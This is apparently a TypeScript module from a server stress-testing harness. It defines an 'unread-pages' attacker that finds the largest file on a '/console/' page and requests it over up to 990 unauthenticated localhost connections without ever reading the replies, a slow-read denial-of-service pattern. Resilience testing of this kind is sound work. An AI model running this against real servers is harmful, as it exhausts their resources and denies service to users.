import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { ask } from '../attack-http.ts';
import type { Attack, Attacker } from '../attacker.ts';

const page = '/console/';
const connectionsMax = 990;
const eachRound = 90;
const addresses = 9;

/** Returns the path of the largest file of the console that its page names. */
async function largestFile(attack: Attack): Promise<string> {
  const { text, bytes } = await ask(attack, { path: page, keeps: true });
  const files = [{ path: page, bytes }];
  for (const [, link = ''] of text.matchAll(/(?:src|href)="([^"]+)"/g)) {
    const path = new URL(link, `http://a${page}`).pathname;
    files.push({ path, bytes: (await ask(attack, { path })).bytes });
  }
  return files.toSorted((a, b) => b.bytes - a.bytes)[0]?.path ?? page;
}

/** Asks for a file over hundreds of connections without a key, again and again, and never reads what comes. */
async function askForFile(attack: Attack): Promise<void> {
  const path = await largestFile(attack);
  const port = Number(new URL(attack.target().url).port);
  const sockets = new Set<Socket>();
  const open = (number: number) => {
    const localAddress = attack.address(1 + (number % addresses));
    const socket = connect({ port, host: '127.0.0.1', localAddress }).pause();
    socket.on('error', () => attack.count('connections ended by the server'));
    socket.once('close', () => sockets.delete(socket));
    socket.write(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(3));
    attack.count('connections whose file is not read');
    sockets.add(socket);
  };
  for (let number = 0; !attack.isOver(); ) {
    for (let i = 0; i < eachRound && sockets.size < connectionsMax; i++) open(number++);
    await sleep(200);
  }
  for (const socket of sockets) socket.destroy();
}

export const unreadPages: Attacker = {
  name: 'unread-pages',
  about: 'asks for the largest file of the console over 990 connections without a key, and never reads it',
  attack: askForFile,
};
